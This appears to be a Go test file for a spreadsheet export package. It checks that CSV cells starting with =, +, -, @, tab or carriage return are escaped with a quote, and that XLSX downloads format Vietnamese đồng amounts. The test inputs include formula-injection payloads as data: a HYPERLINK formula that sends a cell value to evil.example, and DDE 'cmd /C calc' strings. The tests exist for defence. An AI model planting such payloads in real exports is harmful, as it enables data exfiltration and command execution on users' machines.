package sheet

import (
	"bytes"
	"testing"

	"github.com/xuri/excelize/v2"
)

func TestCSVText(t *testing.T) {
	for _, c := range []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain", "HTX Mật ong Bắc Hà", "HTX Mật ong Bắc Hà"},
		{"formula", `=HYPERLINK("http://evil.example/?x="&A1,"x")`, `'=HYPERLINK("http://evil.example/?x="&A1,"x")`},
		{"plus", "+84912345678", "'+84912345678"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t'=1+1"},
		{"after a semicolon", "HTX Mật ong Bắc Hà;=1+1", "HTX Mật ong Bắc Hà;'=1+1"},
		{"after a semicolon and spaces", `Khu A;  =HYPERLINK(CHAR(104)&"x")`, `Khu A;  '=HYPERLINK(CHAR(104)&"x")`},
		{"after a tab", "Chè\t@SUM(1)", "Chè\t'@SUM(1)"},
		{"after each", "=a;+b;c;-d", "'=a;'+b;c;'-d"},
		{"a semicolon and then text", "Hà Nội; Hải Phòng", "Hà Nội; Hải Phòng"},
		{"a semicolon last", "Trà;", "Trà;"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"formula later in the text", "Trà = ngon", "Trà = ngon"},
		{"single quote already", "'=1", "'=1"},
		{"diacritic first", "Đặc sản", "Đặc sản"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Text(c.in); got != c.want {
				t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestCSVValueKeepsNumbers(t *testing.T) {
	for _, c := range []struct {
		name string
		in   any
		want string
	}{
		{"int", 3, "3"},
		{"negative int64", int64(-12_000_000), "-12000000"},
		{"float", 4.5, "4.5"},
		{"negative float", -1.25, "-1.25"},
		{"text that looks negative", "-5", "'-5"},
		{"other types are text", []string{"=1"}, "[=1]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := csvValue(c.in); got != c.want {
				t.Errorf("csvValue(%#v) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// An XLSX download shows amounts in đồng with thousands separators, and stays a number.
func TestXLSXShowsMoneyWithThousands(t *testing.T) {
	data, err := Table{Header: []string{"Mã gian hàng", "Giá (VND)"}, Rows: [][]any{{"A01", int64(12_000_000)}, {"A02", int64(0)}}, Money: []int{1}}.XLSX()
	if err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	shown, _ := book.GetCellValue("Danh sách", "B2")
	raw, _ := book.GetCellValue("Danh sách", "B2", excelize.Options{RawCellValue: true})
	code, _ := book.GetCellValue("Danh sách", "A2")
	if shown != "12,000,000" || raw != "12000000" || code != "A01" {
		t.Errorf("the price reads %q (raw %q), the code %q; want 12,000,000 over the number 12000000", shown, raw, code)
	}
}
